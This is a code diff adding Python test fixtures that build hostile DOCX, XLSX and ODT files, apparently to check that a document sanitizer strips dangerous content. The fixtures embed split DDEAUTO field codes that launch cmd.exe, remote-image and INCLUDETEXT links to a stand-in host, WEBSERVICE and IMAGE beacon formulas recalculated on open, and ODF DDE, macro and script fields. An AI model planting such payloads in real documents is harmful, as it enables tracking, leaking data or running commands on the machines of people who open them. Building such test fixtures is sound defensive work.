@@ -367,3 +367,123 @@ def _zip(parts: dict[str, str | bytes]) -> bytes:
             method = zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
             archive.writestr(name, data, compress_type=method)
     return out.getvalue()
+
+
+# --- what a second review found: split field codes, VML links, formulas, inline ODF data ------
+
+
+def _replace(data: bytes, replace: dict[str, str | bytes]) -> bytes:
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        parts: dict[str, str | bytes] = {n: archive.read(n) for n in archive.namelist()}
+    parts.update(replace)
+    return _zip(parts)
+
+
+def _field(*code: str, result: str = "") -> str:
+    """A complex field whose code is split over several runs, as Word may save it."""
+    runs = "".join(
+        f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in code
+    )
+    shown = f"<w:r><w:t>{result}</w:t></w:r>" if result else ""
+    return (
+        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
+        f'<w:r><w:fldChar w:fldCharType="separate"/></w:r>{shown}'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    )
+
+
+def docx_split_fields() -> bytes:
+    """Field codes split across runs: no single piece looks like a link or a DDE call."""
+    document = (
+        f"{_DECL}<w:document {_NS}><w:body><w:p><w:r><w:t>{VISIBLE}</w:t></w:r></w:p>"
+        + _field(" INCLUDEPICT", 'URE "http:', "/", '/hostile.example/split.png" ')
+        + _field(" DDEA", 'UTO c:\\windows\\system32\\cmd.exe "/k HOSTILE-CALC" ')
+        + _field(" IMP", 'ORT "http:', "/", '/hostile.example/import.png" ', result="Shown.")
+        + '<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;\\\\HOSTILE-SERVER\\share&quot; ">'
+        "<w:r><w:t>Simple result.</w:t></w:r></w:fldSimple></w:p>"
+        "</w:body></w:document>"
+    )
+    return _replace(docx_hostile(), {"word/document.xml": document})
+
+
+def docx_vml_links() -> bytes:
+    """VML pictures fetched from a web address on opening (src, o:href), and a drawing's
+    picture linked rather than embedded (r:link to an external relationship)."""
+    a = "http://schemas.openxmlformats.org/drawingml/2006/main"
+    document = (
+        f"{_DECL}<w:document {_NS}><w:body><w:p><w:r><w:t>{VISIBLE}</w:t></w:r></w:p>"
+        '<w:p><w:r><w:pict><v:shape><v:imagedata src="http://hostile.example/vml.png" '
+        'o:href="http://hostile.example/href.png" o:title=""/>'
+        '<v:fill src="\\\\HOSTILE-SERVER\\fill.png"/></v:shape></w:pict></w:r></w:p>'
+        f'<w:p><w:r><w:drawing><a:blip xmlns:a="{a}" r:link="rIdRemote"/></w:drawing></w:r></w:p>'
+        "</w:body></w:document>"
+    )
+    remote = ' TargetMode="External"'
+    rels = _rels(("rIdRemote", "image", "http://hostile.example/blip.png", remote))
+    return _replace(
+        docx_hostile(),
+        {"word/document.xml": document, "word/_rels/document.xml.rels": rels},
+    )
+
+
+def xlsx_formulas() -> bytes:
+    """Formulas that call out when Excel recalculates on opening, as it is told to."""
+    workbook = (
+        f"{_DECL}<workbook {_XNS}>"
+        '<sheets><sheet name="Evidence" sheetId="1" r:id="rIdSheet"/></sheets>'
+        '<definedNames><definedName name="beacon">WEBSERVICE("http://hostile.example/name")'
+        "</definedName></definedNames>"
+        '<calcPr calcId="191029" fullCalcOnLoad="1"/></workbook>'
+    )
+    sheet = (
+        f'{_DECL}<worksheet {_XNS}><sheetData><row r="1">'
+        '<c r="A1" t="inlineStr"><is><t>Last seen 2017</t></is></c>'
+        '<c r="B1" t="str"><f>WEBSERVICE("http://hostile.example/ws?id="&amp;A1)</f>'
+        "<v>Cached value</v></c>"
+        '<c r="C1" t="e"><f>_xlfn.IMAGE("https://hostile.example/img.png")</f><v>#NAME?</v></c>'
+        '<c r="D1" t="str"><f>HOSTILE|\'/c calc\'!A0</f><v>0</v></c>'
+        "</row></sheetData>"
+        '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1">'
+        '<formula>LEN(WEBSERVICE("http://hostile.example/cf"))</formula></cfRule>'
+        "</conditionalFormatting></worksheet>"
+    )
+    return _replace(
+        xlsx_hostile(),
+        {
+            "xl/workbook.xml": workbook,
+            "xl/worksheets/sheet1.xml": sheet,
+            "xl/connections.xml": '<connections><connection name="HOSTILE-QUERY"/></connections>',
+        },
+    )
+
+
+def _base64(data: bytes) -> str:
+    import base64
+
+    return base64.b64encode(data).decode()
+
+
+def odt_inline() -> bytes:
+    """Data held inside content.xml itself: a photo with its EXIF, an OLE object; and DDE,
+    macro, script and sender fields."""
+    content = (
+        f'<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content {_ODF}>'
+        "<office:body><office:text>"
+        '<text:dde-connection-decls><text:dde-connection-decl office:name="HOSTILE-DDE-LINK" '
+        'office:dde-application="cmd" office:dde-topic="/k calc" office:dde-item="x"/>'
+        "</text:dde-connection-decls>"
+        f"<text:p>{VISIBLE}</text:p>"
+        f"<text:p><draw:frame><draw:image><office:binary-data>{_base64(jpeg_with_gps())}"
+        "</office:binary-data></draw:image></draw:frame>"
+        "<draw:frame><draw:object-ole><office:binary-data>"
+        f"{_base64(b'HOSTILE-OLE C:/Users/Mehrigul/secret.txt')}</office:binary-data>"
+        "</draw:object-ole></draw:frame>"
+        '<draw:frame><draw:plugin xlink:href="http://hostile.example/plugin"/></draw:frame></text:p>'
+        '<text:p><text:execute-macro text:name="HOSTILE-MACRO">Press</text:execute-macro>'
+        '<text:script script:language="JavaScript">HOSTILE-SCRIPT</text:script>'
+        "<text:sender-firstname>HOSTILE-SENDER</text:sender-firstname>"
+        '<text:dde-connection text:connection-name="HOSTILE-DDE-LINK">HOSTILE-DDE'
+        "</text:dde-connection>"
+        "</text:p></office:text></office:body></office:document-content>"
+    )
+    return _replace(odt_hostile(), {"content.xml": content})
